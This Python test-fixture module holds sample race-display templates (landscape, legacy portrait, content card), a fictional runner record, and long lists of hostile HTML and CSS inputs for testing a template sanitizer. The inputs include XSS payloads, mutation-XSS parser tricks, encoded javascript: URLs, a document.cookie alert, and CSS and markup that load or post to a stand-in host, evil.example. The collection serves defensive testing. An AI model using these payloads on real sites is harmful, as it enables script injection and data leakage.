# ruff: noqa: E501, F541, RUF001
"""Templates as the predecessor's programs wrote them, in its three kinds and with its damages, and templates of
somebody who means harm. Knows their shapes; what is made of them is the tests'."""

import json
from typing import Any, Final

UPLOAD: Final = "/static/uploads/bridge_2024.png"
PIXEL: Final = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPj/HwADBwIAMCbHYQAAAABJRU5ErkJggg=="
_IMPORT: Final = (
    "@import url('https://cdnjs.cloudflare.com/ajax/libs/animate.css/4.1.1/animate.min.css');\n"
    "@import url('https://fonts.googleapis.com/css2?family=Bebas+Neue');\n"
)
_BLOCK: Final = "position:absolute;left:{}px;top:{}px;width:{}px;height:{}px"

LANDSCAPE_ACTIVE: Final = f"""<style>{_IMPORT}* {{ box-sizing: border-box; }} body {{ margin: 0; }}
.layout-root {{ position: relative; width: 1920px; height: 1080px; background: linear-gradient(135deg, #10243d, #07101c);
  overflow: hidden; font-family: "Bebas Neue", Arial, sans-serif; }}
#iname {{ font-size: 190px; font-weight: 800; color: #ffffff; text-align: left; line-height: 1.1; }}
#icity {{ font-size: 84px; color: #9ad0ff; }}
#ibib {{ background-color: #f2b705; color: #10243d; border-radius: 24px; font-size: 120px; text-align: center;
  line-height: 180px; }}
</style><div class="layout-root" data-design-w="1920" data-design-h="1080">
<div id="iband" style="{_BLOCK.format(0, 900, 1920, 180)};background-color:#0d5c63"></div>
<div id="iname" data-block-type="name" data-placeholder="name" data-anim="slideInLeft" data-anim-dur="600"
 style="{_BLOCK.format(120, 260, 1400, 230)}">Runner Name</div>
<div id="icity" data-block-type="city" style="{_BLOCK.format(120, 520, 1400, 110)}">{{{{city}}}}, {{{{state}}}}</div>
<div id="ibib" data-placeholder="bib" data-anim="zoomIn" data-anim-delay="200"
 style="{_BLOCK.format(1560, 280, 260, 180)}">0</div>
<div id="imsg" data-placeholder="custom_message" data-messages="Great job!,Almost there!,Looking strong!"
 style="{_BLOCK.format(120, 925, 1680, 130)};font-size:96px;color:#fff;text-align:center">Message</div>
</div>"""
LANDSCAPE_RESTING: Final = f"""<style>.layout-root {{ position: relative; background: #07101c; }}</style>
<div class="layout-root" data-design-w="1920" data-design-h="1080">
<h1 id="iwel" data-anim="fadeIn" style="{_BLOCK.format(160, 380, 1600, 180)};font-size:150px;margin:0;color:#fff;
text-align:center">Welcome to the finish</h1>
<p style="{_BLOCK.format(160, 600, 1600, 100)};font-size:72px;margin:0;color:#9ad0ff;text-align:center">{{{{event}}}}</p>
</div>"""
V2_LANDSCAPE: Final[dict[str, Any]] = {
    "name": "Bridge run",
    "canvasWidth": 1920,
    "canvasHeight": 1080,
    "activeState": {
        "html": LANDSCAPE_ACTIVE,
        "canvasWidth": 1920,
        "canvasHeight": 1080,
        "state": "active",
    },
    "restingState": {
        "html": LANDSCAPE_RESTING,
        "canvasWidth": 1920,
        "canvasHeight": 1080,
        "state": "resting",
    },
    "version": "2.0",
    "lastEditedWith": "a key that nobody knows",
}

_PORTRAIT_RULES: Final = """#irun { position: absolute; left: 60px; top: 700px; width: 960px; height: 260px;
  font-size: 170px; font-weight: 700; color: rgb(255, 255, 255); text-align: center; }
#ibox { background-image: url(undefined); background-color: #c1121f; position: absolute; left: 0; top: 660px;
  width: 1080px; height: 560px; }
#itown { position: absolute; left: 60px; top: 980px; width: 960px; height: 120px; font-size: 90px; color: #fdf0d5;
  text-align: center; }
"""
LEGACY_PORTRAIT: Final[dict[str, Any]] = {
    "html": (
        '<body id="ib00"><div id="ibox"></div>'
        '<div id="irun" class="runner-name" data-anim="[object Object]" data-anim-dur="1000">Runner</div>'
        '<div id="itown" class="runner-city" data-anim="bounceInUp">City</div>'
        f'<img id="ilogo" alt="" src="{PIXEL}" style="{_BLOCK.format(340, 160, 400, 400)}"/>'
        f'<div class="bib-number" style="{_BLOCK.format(340, 1300, 400, 160)};font-size:120px;color:#fdf0d5;'
        'text-align:center">0</div></body>'
    ),
    "css": "body { margin: 0; background-color: #003049; }\n" + _PORTRAIT_RULES * 40,
    "canvasWidth": "1080",
    "canvasHeight": "1920",
    "backgroundStyles": {"backgroundColor": "#003049", "backgroundImage": "url(undefined)"},
    "timestamp": 1718000000000,
}
CONTENT: Final[dict[str, Any]] = {
    "name": "default",
    "content": (
        "<style>.card{width:1200px;margin:200px auto 0;padding:60px;background:#1d3557;color:#f1faee;"
        "font-family:Georgia,serif;text-align:center}.card h1{font-size:140px;margin:0}.card p{font-size:60px}</style>"
        '<div class="card"><h1 data-placeholder="name">Name</h1>'
        '<p><span data-placeholder="division">Division</span> &middot; {{finish_time}} &middot; {{no_such_word}}</p>'
        '<p class="runner-message" data-placeholder="message">Message</p></div>'
    ),
}
STORED_STATES: Final[dict[str, Any]] = {
    "activeState": json.dumps(V2_LANDSCAPE["activeState"]),
    "restingState": "[object Object]",
    "timestamp": "1718000000000",
}
"""As a browser's storage holds it, with a damaged state."""
KINDS: Final = {"landscape": V2_LANDSCAPE, "portrait": LEGACY_PORTRAIT, "content": CONTENT}
RUNNER: Final = {
    "name": "Maria Fernández-Oyelaran",
    "first_name": "Maria",
    "last_name": "Fernández-Oyelaran",
    "bib": "1482",
    "city": "Guadalajara",
    "state": "JAL",
    "country": "MEX",
    "division": "F35-39",
    "message": "You're doing amazing!",
    "time": "3:41:07",
    "event": "Three Rivers Marathon",
}

EVIL: Final = "https://evil.example"
_BAD_CSS: Final = (
    f"@import '{EVIL}/a.css';",
    f"@import url({EVIL}/a.css) screen;",
    f"@IMPORT\\20 url({EVIL}/a.css);",
    f"@font-face{{font-family:x;src:url({EVIL}/f.woff2)}}p{{font-family:x}}",
    f"p{{background:url({EVIL}/a.png)}}",
    f"p{{background:\\75rl({EVIL}/b.png)}}",
    f"p{{background:u\\52 l('{EVIL}/c.png')}}",
    f"p{{background:image-set('{EVIL}/d.png' 1x)}}",
    f"p{{background:-webkit-image-set(url({EVIL}/d.png) 1x)}}",
    f"p{{--a:url({EVIL}/e.png);background:var(--a)}}",
    f"p{{list-style:square url(//evil.example/f.png);cursor:url({EVIL}/g.cur),auto}}",
    f"p{{content:url({EVIL}/h.png);border-image:url({EVIL}/i.png) 30}}",
    f"p{{filter:url({EVIL}/j.svg#a);mask:url({EVIL}/k.svg);clip-path:url({EVIL}/l.svg#c)}}",
    "p{width:expression(parent.hit());behavior:url(x.htc);-moz-binding:url(x.xml#a)}",
    "p{background:url(javascript:parent.hit())}",
    f"@namespace url({EVIL}/n);@page{{background:url({EVIL}/m.png)}}",
    f"@media all{{p{{background:url({EVIL}/o.png)}}}}",
    f"@supports (background:url({EVIL}/q.png)){{p{{background:url({EVIL}/p.png)}}}}",
    f"p{{color:red;/*}}*/background:url({EVIL}/r.png)}}",
    f"p:hover,p{{& b{{background:url({EVIL}/s.png)}}}}",
    f"p{{background:url(data:image/svg+xml,<svg onload='parent.hit()' xmlns='x'/>)}}",
    f"p::after{{content:'</style><img src={EVIL}/t.png onerror=parent.hit()>'}}",
    f"<!-- p{{background:url({EVIL}/u.png)}} -->",
    f"p{{background:url(/images/../../{EVIL}/v.png)}}",
)
HOSTILE: Final[tuple[str, ...]] = (
    "<script>parent.hit()</script>",
    "<SCRIPT\n>parent.hit()</SCRIPT\t>",
    f"<script src={EVIL}/a.js></script>",
    "<scr<script>ipt>parent.hit()</scr</script>ipt>",
    "</style><script>parent.hit()</script>",
    "<style></style\t><script>parent.hit()</script></style>",
    "<style><style /><img src=x onerror=parent.hit()>",
    "<img src=x onerror=parent.hit()>",
    "<img/src/onerror=parent.hit()>",
    '<img src="`><script>parent.hit()</script>`">',
    f"<img src={EVIL}/a.png><img srcset='{EVIL}/b.png 1x'><img src='//evil.example/c.png'>",
    f"<img src='https:evil.example/d.png'><img src='\\\\evil.example\\e.png'><img src=' /\t/evil.example/f.png'>",
    f"<picture><source srcset={EVIL}/g.png><img></picture><input type=image src={EVIL}/h.png>",
    f"<video poster={EVIL}/a.png autoplay src={EVIL}/a.mp4><track src={EVIL}/a.vtt></video><audio src={EVIL}/a.mp3 autoplay>",
    "<a href=javascript:parent.hit()>x</a><a href='java\tscript:parent.hit()' autofocus onfocus=parent.hit()>y</a>",
    "<a href='&#106;avascript:parent.hit()'>x</a><img src='jAvAsCrIpT&colon;parent.hit()'>",
    f"<a href={EVIL} ping={EVIL}/ping target=_top>x</a>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><meta http-equiv=refresh content='0;url=javascript:parent.hit()'>",
    f"<base href={EVIL}/><img src=a.png>",
    f"<link rel=stylesheet href={EVIL}/a.css><link rel=preload as=image href={EVIL}/a.png>",
    f"<link rel=preconnect href={EVIL}><link rel=dns-prefetch href=//evil.example><link rel=prefetch href={EVIL}/p>",
    f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>top.hit()</script>'></iframe><frameset><frame src={EVIL}></frameset>",
    "<iframe src=javascript:parent.parent.hit()></iframe>",
    f"<object data={EVIL}/a.swf></object><embed src={EVIL}/a.swf><applet code=a archive={EVIL}/a.jar></applet>",
    f"<object data='data:text/html,<script>top.hit()</script>'></object>",
    f"<form action={EVIL} method=post><input name=a value=b autofocus onfocus=parent.hit()><button formaction={EVIL}>x</button></form>",
    "<svg onload=parent.hit()><script>parent.hit()</script></svg>",
    f"<svg><image href={EVIL}/a.png /><use href={EVIL}/a.svg#a /><feImage href={EVIL}/b.png /></svg>",
    "<svg><animate onbegin=parent.hit() attributeName=x dur=1s><set attributeName=href to=javascript:parent.hit()></svg>",
    "<svg><foreignObject><body onload=parent.hit()><script>parent.hit()</script></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=parent.hit()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.hit()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=parent.hit()>",
    '<noscript><p title="</noscript><img src=x onerror=parent.hit()>">',
    '<textarea><img title="</textarea><img src=x onerror=parent.hit()>">',
    '<xmp><p title="</xmp><img src=x onerror=parent.hit()>">',
    "<template><img src=x onerror=parent.hit()></template><template shadowrootmode=open><script>parent.hit()</script></template>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=parent.hit()>">',
    "<!--><img src=x onerror=parent.hit()>--><!--!><script>parent.hit()</script>",
    "<![CDATA[<img src=x onerror=parent.hit()>]]><?php <img src=x onerror=parent.hit()> ?>",
    "<div style=\"background:url('https://evil.example/x.png')\" onmouseover=parent.hit()>x</div>",
    "<div style='background:&#117;rl(https://evil.example/y.png)'>x</div>",
    '<div style="x:y;}</style><script>parent.hit()</script>">x</div>',
    "<details open ontoggle=parent.hit()><summary>x</summary></details><marquee onstart=parent.hit()>x</marquee>",
    "<body onload=parent.hit() background=https://evil.example/z.png><table background=https://evil.example/w.png><td>x</table>",
    "<img src=x OnErRoR=parent.hit() ＯＮerror=parent.hit()><ſcript>parent.hit()</ſcript>",
    "<div data-placeholder=name onanimationstart=parent.hit() style='animation:fadeIn 1s'>x</div>",
    "<img data-placeholder=photo><div id=x data-anim=fadeIn data-messages='<img src=x onerror=parent.hit()>,b' "
    "data-placeholder=custom_message>x</div>",
    "<script>top.location='https://evil.example';alert(1);open('https://evil.example')</script>",
    '<img src=x onerror="top.location=\'https://evil.example\'"><img src=x onerror="alert(document.cookie)">',
    "<p title='\0'>\0<scr\0ipt>parent.hit()</scr\0ipt>",
    "<plaintext><script>parent.hit()</script>",
    *(f"<style>{css}</style><p>x</p>" for css in _BAD_CSS),
)
HOSTILE_FIELDS: Final = {
    "name": "<img src=x onerror=parent.hit()>",
    "photo": f"{EVIL}/photo.png",
    "city": "{{name}}",
}
